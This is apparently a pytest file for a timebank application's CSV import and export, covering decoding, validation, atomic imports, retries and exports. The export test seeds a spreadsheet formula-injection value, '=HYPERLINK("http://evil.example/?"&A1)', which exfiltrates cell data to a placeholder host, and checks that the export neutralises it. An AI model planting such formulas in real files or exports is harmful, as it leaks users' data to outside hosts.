"""Importing and exporting through the domain functions, on both engines."""

from __future__ import annotations

import csv
import io
import time
from datetime import date, timedelta

import pytest
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session

from tests.imports.files import BAD_ROWS, MEMBER_HEADER, big_member_file, csv_text, member_row
from timebank import ledger
from timebank.audit import AuditEvent
from timebank.banks.models import Bank
from timebank.db import utcnow
from timebank.imports import operations
from timebank.imports.csv_safety import BOM
from timebank.imports.models import ImportBatch, ImportKind, ImportStatus
from timebank.ledger import Transfer, TransferKind
from timebank.members.models import ContactMethod, Member, Skill
from timebank.members.operations import member_account

# -- reading files --------------------------------------------------------------------------------


def test_utf8_with_or_without_a_byte_order_mark_and_windows_1252_are_read() -> None:
    text = "full_name,consent_date\nSeán Ó Briain,2024-01-01\n"
    assert operations.decode(text.encode("utf-8")) == text
    assert operations.decode(text.encode("utf-8-sig")) == text
    assert operations.decode(text.encode("cp1252")) == text
    assert operations.decode(text.encode("utf-16")) == text


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"PK\x03\x04\x14\x00\x06\x00rest of an xlsx", "not a CSV file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old excel", "not a CSV file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "could not be read as text"),
        (b"full_name\n\x81\x8d\x8f\x90\x9d\x00", "could not be read as text"),
    ],
)
def test_a_file_that_is_not_csv_text_is_refused_in_plain_words(data: bytes, words: str) -> None:
    with pytest.raises(operations.FileProblem) as raised:
        operations.decode(data)
    assert words in str(raised.value)


def test_headings_are_forgiving_and_blank_rows_keep_their_row_numbers() -> None:
    columns, rows = operations.read_rows(
        "Full Name;Consent-Date\r\nJoan;2024-01-01\r\n;\r\nSeamus;x\r\n"
    )
    assert columns == ["full_name", "consent_date"]
    assert rows == [(2, ["Joan", "2024-01-01"]), (4, ["Seamus", "x"])]


def test_a_missing_or_repeated_column_is_named() -> None:
    with pytest.raises(operations.FileProblem) as raised:
        operations.check_columns(ImportKind.MEMBERS, ["full_name", "phone"])
    assert "consent_date" in str(raised.value)
    with pytest.raises(operations.FileProblem) as raised:
        operations.check_columns(ImportKind.EXCHANGES, ["date", "provider", "receiver", "skill"])
    assert "hours" in str(raised.value)
    with pytest.raises(operations.FileProblem) as raised:
        operations.check_columns(ImportKind.MEMBERS, ["full_name", "consent_date", "full_name"])
    assert "full_name appears twice" in str(raised.value)
    assert operations.check_columns(ImportKind.MEMBERS, ["full_name", "consent_date", "id"]) == [
        "id"
    ]


# -- members --------------------------------------------------------------------------------------


def count(session: Session, model, *where) -> int:
    return session.scalar(select(func.count()).select_from(model).where(*where)) or 0


def upload(session: Session, bank: Bank, text: str, kind=ImportKind.MEMBERS, user_id=None):
    batch, found = operations.upload(
        session, bank, kind=kind, filename="people.csv", data=text.encode(), user_id=user_id
    )
    session.commit()
    return batch, found


def run(session: Session, batch: ImportBatch, *, only_valid: bool, **kwargs):
    assert operations.claim(session, batch)
    session.commit()
    return operations.run_import(
        session, batch.id, only_valid=only_valid, user_id=kwargs.pop("user_id", None), **kwargs
    )


def test_a_5000_row_file_with_three_bad_rows_names_them_and_imports_the_rest(
    session: Session, make_bank, make_user
) -> None:
    bank = make_bank()
    broker = make_user("coordinator", banks=[bank])
    started = time.perf_counter()
    batch, found = upload(session, bank, big_member_file(5000), user_id=broker.id)
    previewed = time.perf_counter()

    assert found.total == 5000
    assert found.bad_rows == sorted(BAD_ROWS)
    assert [(p.row, p.column, p.value, p.message) for p in found.problems] == [
        (row, column, value, message) for row, (column, value, message) in sorted(BAD_ROWS.items())
    ]
    assert (batch.total_rows, batch.valid_rows, batch.status) == (5000, 4997, "previewed")
    assert count(session, Member, Member.bank_id == bank.id) == 0, "a preview wrote members"

    seen = []
    outcome = run(
        session,
        batch,
        only_valid=True,
        user_id=broker.id,
        progress=lambda done, total: seen.append((done, total)),
    )
    imported = time.perf_counter()
    print(f"5,000 rows: preview {previewed - started:.2f}s, import {imported - previewed:.2f}s")

    assert outcome.status == ImportStatus.DONE
    assert outcome.imported == 4997
    assert [(p.row, p.column) for p in outcome.problems] == [
        (row, column) for row, (column, _, _) in sorted(BAD_ROWS.items())
    ]
    assert seen[-1] == (4997, 4997) and len(seen) == 4997
    session.expire_all()
    assert count(session, Member, Member.bank_id == bank.id) == 4997
    names = set(session.scalars(select(Member.full_name).where(Member.bank_id == bank.id)))
    assert not {f"Member {row} Murphy" for row in BAD_ROWS} & names
    assert "Member 5000 Murphy" in names
    batch = session.get(ImportBatch, batch.id)
    assert (batch.status, batch.imported_rows, batch.content) == ("done", 4997, "")
    assert batch.finished_at is not None
    done = session.scalars(select(AuditEvent).where(AuditEvent.action == "import.done")).one()
    assert done.subject == f"import:{batch.id}"
    assert done.details["imported"] == 4997 and done.details["problem_count"] == 3
    again = operations.outcome(session, batch)
    assert again is not None and [p.row for p in again.problems] == sorted(BAD_ROWS)


def test_an_imported_member_has_every_column_and_an_account(session: Session, make_bank) -> None:
    bank = make_bank(welcome_minutes=120)
    text = csv_text(
        MEMBER_HEADER,
        [
            member_row(
                2,
                preferred_name="Joanie",
                contact_method="Carer",
                area="bt48",
                preferred_language="Polish",
                consent_wording="=2+2",
            )
        ],
    )
    batch, found = upload(session, bank, text)
    assert found.all_valid
    run(session, batch, only_valid=False)
    member = session.scalars(select(Member).where(Member.bank_id == bank.id)).one()
    assert (member.member_number, member.full_name, member.display_name) == (
        1,
        "Member 2 Murphy",
        "Joanie",
    )
    assert (member.area, member.contact_method, member.preferred_locale) == (
        "BT48",
        ContactMethod.CARER,
        "pl",
    )
    assert (member.consent_on, member.joined_on) == (date(2024, 3, 1), date(2024, 3, 1))
    assert member.consent_wording == "=2+2"
    assert member_account(session, member.id).balance == 120, "welcome credit from the pot"


def test_all_rows_cannot_be_imported_while_one_is_bad_and_nothing_is_written(
    session: Session, make_bank
) -> None:
    bank = make_bank()
    text = csv_text(MEMBER_HEADER, [member_row(2), member_row(3, area="nowhere"), member_row(4)])
    batch, found = upload(session, bank, text)
    assert found.bad_rows == [3]

    outcome = run(session, batch, only_valid=False)

    assert outcome.status == ImportStatus.FAILED and outcome.imported == 0
    assert [(p.row, p.column) for p in outcome.problems] == [(3, "area")]
    session.expire_all()
    assert count(session, Member, Member.bank_id == bank.id) == 0
    assert session.get(ImportBatch, batch.id).status == ImportStatus.FAILED
    assert operations.outcome(session, batch).status == ImportStatus.FAILED

    # a failed import wrote nothing, so the broker may still choose the good rows
    outcome = run(session, session.get(ImportBatch, batch.id), only_valid=True)
    assert (outcome.status, outcome.imported) == (ImportStatus.DONE, 2)
    assert count(session, Member, Member.bank_id == bank.id) == 2


def test_a_batch_is_imported_once(session: Session, make_bank) -> None:
    bank = make_bank()
    batch, _ = upload(session, bank, csv_text(MEMBER_HEADER, [member_row(2)]))
    assert operations.claim(session, batch)
    session.commit()
    assert not operations.claim(session, batch), "a second click started a second import"
    session.rollback()
    operations.run_import(session, batch.id, only_valid=True, user_id=None)
    assert not operations.claim(session, batch)
    assert not operations.can_start(batch)
    session.rollback()
    with pytest.raises(ValueError):
        operations.run_import(session, batch.id, only_valid=True, user_id=None)


def test_a_batch_left_importing_by_a_dead_process_is_claimed_again(
    session: Session, make_bank
) -> None:
    bank = make_bank()
    batch, _ = upload(session, bank, csv_text(MEMBER_HEADER, [member_row(2)]))
    assert operations.claim(session, batch)
    session.commit()
    # the process dies here: the batch says "importing" and nothing was written
    assert not operations.is_stale(batch) and not operations.can_start(batch)
    assert not operations.claim(session, batch), "a live import was claimed twice"
    session.rollback()
    later = batch.started_at + operations.STALE_AFTER + timedelta(seconds=1)
    assert operations.is_stale(batch, later)
    session.execute(
        update(ImportBatch)
        .where(ImportBatch.id == batch.id)
        .values(started_at=batch.started_at - operations.STALE_AFTER - timedelta(seconds=1))
    )
    session.commit()
    assert operations.is_stale(batch) and operations.can_start(batch)
    outcome = run(session, batch, only_valid=False)
    assert (outcome.status, outcome.imported) == (ImportStatus.DONE, 1)
    assert count(session, Member, Member.bank_id == bank.id) == 1


def test_an_import_taken_for_dead_cannot_finish_after_the_new_claim(
    session: Session, make_bank, monkeypatch: pytest.MonkeyPatch
) -> None:
    bank = make_bank()
    batch, _ = upload(session, bank, csv_text(MEMBER_HEADER, [member_row(n) for n in (2, 3)]))
    real = operations.register_member

    def claimed_again_meanwhile(*args, **kwargs):
        # a broker started the batch again, taking this import for dead
        session.execute(
            update(ImportBatch).where(ImportBatch.id == batch.id).values(started_at=utcnow())
        )
        return real(*args, **kwargs)

    monkeypatch.setattr(operations, "register_member", claimed_again_meanwhile)
    with pytest.raises(operations.ImportOvertaken):
        run(session, batch, only_valid=False)
    session.expire_all()
    assert count(session, Member, Member.bank_id == bank.id) == 0
    # the batch is left to the newer claim: neither done nor failed by this one
    assert session.get(ImportBatch, batch.id).status == ImportStatus.IMPORTING
    assert session.scalars(select(AuditEvent).where(AuditEvent.action.like("import.%"))).all() == []


def test_an_unexpected_failure_part_way_writes_nothing(
    session: Session, make_bank, monkeypatch: pytest.MonkeyPatch
) -> None:
    bank = make_bank()
    batch, _ = upload(session, bank, csv_text(MEMBER_HEADER, [member_row(n) for n in range(2, 8)]))
    real = operations.register_member
    calls = []

    def fail_on_the_fourth(*args, **kwargs):
        calls.append(1)
        if len(calls) == 4:
            raise RuntimeError("the disk is full")
        return real(*args, **kwargs)

    monkeypatch.setattr(operations, "register_member", fail_on_the_fourth)
    with pytest.raises(RuntimeError):
        run(session, batch, only_valid=True)

    session.expire_all()
    assert count(session, Member, Member.bank_id == bank.id) == 0, "half an import was written"
    batch = session.get(ImportBatch, batch.id)
    assert batch.status == ImportStatus.FAILED and batch.content
    failed = session.scalars(select(AuditEvent).where(AuditEvent.action == "import.failed")).one()
    assert failed.details["reason"] == "RuntimeError"


def test_an_empty_file_is_refused(session: Session, make_bank) -> None:
    bank = make_bank()
    with pytest.raises(operations.FileProblem):
        upload(session, bank, "full_name,consent_date\n,\n")
    session.rollback()
    assert count(session, ImportBatch) == 0


# -- exchanges ------------------------------------------------------------------------------------

EXCHANGE_HEADER = ("date", "provider", "receiver", "hours", "skill", "note")


@pytest.fixture
def three(session: Session, make_bank, make_member) -> tuple[Bank, list[Member]]:
    bank = make_bank()  # members may owe 10 hours
    people = [make_member(bank, name) for name in ("Joan Murphy", "Seamus Kelly", "Ann Lee")]
    return bank, people


def test_exchanges_post_through_the_ledger_and_refusals_are_reported_per_row(
    session: Session, three
) -> None:
    bank, (joan, seamus, ann) = three
    yesterday = (bank.today() - timedelta(days=1)).isoformat()
    text = csv_text(
        EXCHANGE_HEADER,
        [
            [yesterday, "1", "2", "1.5", "shopping", "Weekly shop"],
            [yesterday, "2", "1", "0.75", "Gardening", ""],
            [yesterday, "1", "3", "10.5", "lifts", ""],  # Ann may owe 10 hours, not 10.5
            [yesterday, "1", "2", "1", "juggling", ""],
        ],
    )
    batch, found = upload(session, bank, text, kind=ImportKind.EXCHANGES)
    assert [(p.row, p.column) for p in found.problems] == [(5, "skill")]
    assert count(session, Transfer, Transfer.kind == TransferKind.EXCHANGE) == 0

    outcome = run(session, batch, only_valid=True)

    assert (outcome.status, outcome.imported) == (ImportStatus.DONE, 2)
    assert [(p.row, p.column, p.message) for p in outcome.problems] == [
        (4, "receiver", "This would take the member past the most they may owe"),
        (5, "skill", "This is not a kind of help on the list"),
    ]
    transfers = list(session.scalars(select(Transfer).order_by(Transfer.id)))
    assert [(t.kind, t.amount, t.idempotency_key) for t in transfers] == [
        (TransferKind.EXCHANGE, 90, f"import:{batch.id}:2"),
        (TransferKind.EXCHANGE, 45, f"import:{batch.id}:3"),
    ]
    shopping = session.scalars(select(Skill).where(Skill.code == "shopping")).one()
    assert transfers[0].skill_id == shopping.id and transfers[0].note.text == "Weekly shop"
    assert transfers[0].given_on == bank.today() - timedelta(days=1)
    balances = [member_account(session, m.id).balance for m in (joan, seamus, ann)]
    assert balances == [90 - 45, -90 + 45, 0]


def test_a_refusal_by_the_books_stops_an_import_of_all_rows(session: Session, three) -> None:
    bank, _ = three
    today = bank.today().isoformat()
    text = csv_text(
        EXCHANGE_HEADER,
        [[today, "1", "2", "2", "shopping", ""], [today, "1", "3", "11", "lifts", ""]],
    )
    batch, found = upload(session, bank, text, kind=ImportKind.EXCHANGES)
    assert found.all_valid

    outcome = run(session, batch, only_valid=False)

    assert outcome.status == ImportStatus.FAILED
    assert [(p.row, p.column) for p in outcome.problems] == [(3, "receiver")]
    assert count(session, Transfer, Transfer.kind == TransferKind.EXCHANGE) == 0


def test_a_retried_import_never_posts_a_row_twice(session: Session, three) -> None:
    bank, _ = three
    text = csv_text(EXCHANGE_HEADER, [[bank.today().isoformat(), "1", "2", "2", "shopping", ""]])
    batch, _ = upload(session, bank, text, kind=ImportKind.EXCHANGES)
    run(session, batch, only_valid=True)
    assert count(session, Transfer, Transfer.kind == TransferKind.EXCHANGE) == 1

    # as if the outcome had been lost after the rows were written, and the broker tried again
    batch = session.get(ImportBatch, batch.id)
    batch.status, batch.content = ImportStatus.FAILED, text
    session.commit()
    outcome = run(session, batch, only_valid=True)

    assert outcome.status == ImportStatus.DONE
    assert count(session, Transfer, Transfer.kind == TransferKind.EXCHANGE) == 1


# -- export ---------------------------------------------------------------------------------------


def read_csv(document: str) -> list[dict[str, str]]:
    assert document.startswith(BOM)
    return list(csv.DictReader(io.StringIO(document.removeprefix(BOM))))


def test_members_export_with_formulas_neutralised(session: Session, make_bank, make_member) -> None:
    bank = make_bank()
    make_member(
        bank,
        '=HYPERLINK("http://evil.example/?"&A1)',
        phone="+44 28 9000 0001",
        area="BT9",
        consent_on=date(2024, 1, 2),
        consent_wording="@SUM(A1)",
    )
    seamus = make_member(bank, "Seamus Kelly", display_name="-Seamus")
    ledger.post(
        session,
        ledger.TransferRequest(
            bank_id=bank.id,
            unit=ledger.Unit.HOURS,
            kind=TransferKind.GIFT,
            from_account_id=member_account(session, seamus.id).id,
            to_account_id=member_account(session, seamus.id).id - 1,
            amount=90,
        ),
    )
    session.commit()

    document, rows = operations.export_members(session, bank)
    operations.record_export(session, bank.id, "members", rows, user_id=None)
    session.commit()

    first, second = read_csv(document)
    assert rows == 2
    assert first["full_name"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert first["phone"] == "'+44 28 9000 0001"
    assert first["consent_wording"] == "'@SUM(A1)"
    assert (first["member_number"], first["consent_date"], first["area"]) == (
        "1",
        "2024-01-02",
        "BT9",
    )
    assert second["preferred_name"] == "'-Seamus"
    assert (second["balance_minutes"], second["balance_hours"]) == ("-90", "-1.5")
    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "export.members")).one()
    assert event.bank_id == bank.id and event.details == {"rows": 2}


def test_exchanges_export_names_both_sides_and_reimports(session: Session, three) -> None:
    bank, (joan, seamus, _) = three
    yesterday = bank.today() - timedelta(days=1)
    from timebank.exchanges import HelpDetails, record_exchange
    from timebank.members.catalogue import ensure_catalogue

    shopping = next(s for s in ensure_catalogue(session) if s.code == "shopping")
    first = record_exchange(
        session,
        provider=seamus,
        receiver=joan,
        help=HelpDetails(minutes=90, given_on=yesterday, skill_id=shopping.id, note="=1+1"),
    ).transfer
    record_exchange(
        session, provider=joan, receiver=seamus, help=HelpDetails(minutes=30, given_on=yesterday)
    )
    ledger.reverse(session, first.id, "Logged twice")
    session.commit()

    document, rows = operations.export_exchanges(session, bank)
    operations.record_export(session, bank.id, "exchanges", rows, user_id=None)
    session.commit()

    lines = read_csv(document)
    assert list(lines[0]) == list(operations.EXCHANGE_EXPORT_COLUMNS)
    assert rows == 3
    assert lines[0] == {
        "date": yesterday.isoformat(),
        "kind": "exchange",
        "provider": str(seamus.member_number),
        "provider_name": "Seamus Kelly",
        "receiver": str(joan.member_number),
        "receiver_name": "Joan Murphy",
        "minutes": "90",
        "hours": "1.5",
        "skill": "Shopping",
        "reversed": "yes",
        "note": "'=1+1",
    }
    assert (lines[1]["reversed"], lines[1]["skill"], lines[1]["hours"]) == ("no", "", "0.5")
    assert lines[2]["kind"] == "reversal" and lines[2]["provider"] == str(joan.member_number)
    assert session.scalars(select(AuditEvent).where(AuditEvent.action == "export.exchanges")).one()

    # the export's columns are the import's: the first exchange would import again as it was
    text = csv_text(list(lines[0]), [list(lines[0].values())])
    _, found = upload(session, bank, text, kind=ImportKind.EXCHANGES)
    assert found.all_valid, found.problems
    assert set(found.unused_columns) == {"kind", "provider_name", "receiver_name", "reversed"}
    ((_, row),) = found.valid
    assert (row["minutes"], row["note"], row["provider"].id) == (90, "=1+1", seamus.id)
